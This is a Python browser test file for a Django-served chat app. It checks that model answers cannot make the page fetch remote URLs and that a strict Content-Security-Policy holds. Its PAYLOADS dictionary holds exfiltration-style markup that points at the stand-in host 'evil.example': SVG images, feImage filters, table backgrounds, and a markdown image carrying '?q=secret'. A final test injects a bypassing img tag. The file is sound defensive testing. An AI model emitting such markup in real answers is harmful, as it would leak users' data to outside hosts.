"""Issue 15, finding 1, in Chromium: model output cannot make the browser fetch a remote URL,
and the app runs under Django's Content-Security-Policy without a single violation.

The page is the real build, served with the real response Django gives for `/` (its headers:
the CSP, nosniff, framing, referrer, opener policy); FakeBackend plays the API and websocket, so
an answer with each payload can be streamed and finished on cue.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from pytest_django import Settings

from tests.browser.fake_backend import ORIGIN, FakeBackend
from tests.browser.pages import last_answer, send, wait_for_state

pytestmark = pytest.mark.browser

EVIL = "evil.example"
PAYLOADS = {
    "svg-image": f'<svg><image href="https://{EVIL}/svg-image" width="9" height="9"/></svg>',
    "svg-xlink": f'<svg><image xlink:href="https://{EVIL}/svg-xlink" width="9"/></svg>',
    "fe-image": (
        f'<svg width="20" height="20"><filter id="f"><feImage href="https://{EVIL}/fe-image"/>'
        '</filter><rect width="20" height="20" filter="url(#f)"/></svg>'
    ),
    "table-background": (
        f'<table background="https://{EVIL}/table-background"><tr><td>cell</td></tr></table>'
    ),
    "cell-background": (
        f'<table><tr><td background="https://{EVIL}/cell-background">cell</td></tr></table>'
    ),
    "markdown-image": f"![leak](https://{EVIL}/markdown-image?q=secret)",
}
# Records every CSP violation the page reports, from its very first script on.
RECORD_VIOLATIONS = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__cspViolations.push(`${event.violatedDirective} ${event.blockedURI}`);
});
"""


class DjangoDocumentBackend(FakeBackend):
    """FakeBackend, except that the HTML document is the response Django gave for `/`."""

    def __init__(self, page: Any, dist: Path, document: Any) -> None:
        self.document = document
        super().__init__(page, dist)

    def _http(self, route: Any) -> None:
        path = route.request.url.removeprefix(ORIGIN).split("?", 1)[0]
        if path.startswith(("/api/", "/static/")):
            super()._http(route)
            return
        headers = {name: value for name, value in self.document.items()}
        route.fulfill(status=self.document.status_code, headers=headers, body=self.document.content)


@pytest.fixture
def document(settings: Settings, frontend_dist: Path) -> Any:
    settings.ALLOWED_HOSTS = ["app.localhost"]
    settings.FRONTEND_DIST_DIR = frontend_dist
    response = Client().get("/", HTTP_HOST="app.localhost")
    assert response.status_code == 200
    return response


@pytest.fixture
def app(page: Any, frontend_dist: Path, document: Any) -> tuple[Any, FakeBackend, list[str]]:
    """The app, open and connected, and the list of every URL the page has requested."""
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    # Anything that does get out is answered here, not by the network (and still recorded).
    page.route(re.compile(rf"^https?://{re.escape(EVIL)}/.*"), lambda route: route.abort())
    page.add_init_script(RECORD_VIOLATIONS)
    backend = DjangoDocumentBackend(page, frontend_dist, document)
    page.goto(f"{ORIGIN}/")
    page.get_by_test_id("composer").wait_for()
    page.wait_for_function(
        "() => document.querySelector('[data-testid=connection-banner]').dataset.state === 'open'"
    )
    return page, backend, requested


def violations(page: Any) -> list[str]:
    return list(page.evaluate("() => window.__cspViolations"))


def test_the_app_is_served_with_a_strict_csp_and_the_security_headers(document: Any) -> None:
    policy = {
        directive.split()[0]: directive.split()[1:]
        for directive in document["Content-Security-Policy"].split(";")
        if directive.strip()
    }

    assert policy["script-src"] == ["'self'"]  # no inline scripts, no eval
    assert policy["img-src"] == ["'self'", "data:"]
    assert policy["connect-src"] == ["'self'", "ws://app.localhost"]
    assert policy["object-src"] == ["'none'"] and policy["frame-ancestors"] == ["'none'"]
    assert document["X-Content-Type-Options"] == "nosniff"
    assert document["X-Frame-Options"] == "DENY"
    assert document["Referrer-Policy"] == "same-origin"
    assert document["Cross-Origin-Opener-Policy"] == "same-origin"


def test_the_app_loads_and_chats_under_the_csp_without_violations(
    app: tuple[Any, FakeBackend, list[str]],
) -> None:
    page, backend, _ = app

    send(page, "Hello")
    accepted = backend.accept(backend.wait_for_frame("chat.send"))
    backend.stream(accepted["generation_id"], ["Hi ", "**there**"])
    backend.done(accepted["generation_id"], "Hi **there**\n\n```python\nprint(1)\n```")
    wait_for_state(page, ("complete",))

    assert last_answer(page).locator("strong").inner_text() == "there"
    assert violations(page) == []


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_an_answer_with_remote_url_markup_fetches_nothing(
    app: tuple[Any, FakeBackend, list[str]], name: str
) -> None:
    page, backend, requested = app
    text = f"Look:\n\n{PAYLOADS[name]}\n\nend"

    send(page, "Show me")
    accepted = backend.accept(backend.wait_for_frame("chat.send"))
    backend.stream(accepted["generation_id"], [text])  # rendered while streaming, innerHTML
    page.wait_for_timeout(200)
    backend.done(accepted["generation_id"], text)  # and finished, dangerouslySetInnerHTML
    wait_for_state(page, ("complete",))
    page.wait_for_timeout(500)  # time for any image, filter or background to be fetched

    assert [url for url in requested if EVIL in url] == []
    assert violations(page) == []
    assert EVIL not in last_answer(page).inner_html().replace(f"https://{EVIL}/markdown", "")


def test_the_csp_blocks_what_the_sanitiser_would_miss(
    app: tuple[Any, FakeBackend, list[str]],
) -> None:
    """The second line of defence, and proof that violations are seen: markup written into the
    page without the sanitiser is refused by the browser."""
    page, _, _ = app

    page.evaluate(
        f"""() => {{
            const div = document.createElement("div");
            div.innerHTML = '<img src="https://{EVIL}/bypass">';
            document.body.append(div);
        }}"""
    )
    page.wait_for_function("() => window.__cspViolations.length > 0")

    assert violations(page) == [f"img-src https://{EVIL}/bypass"]
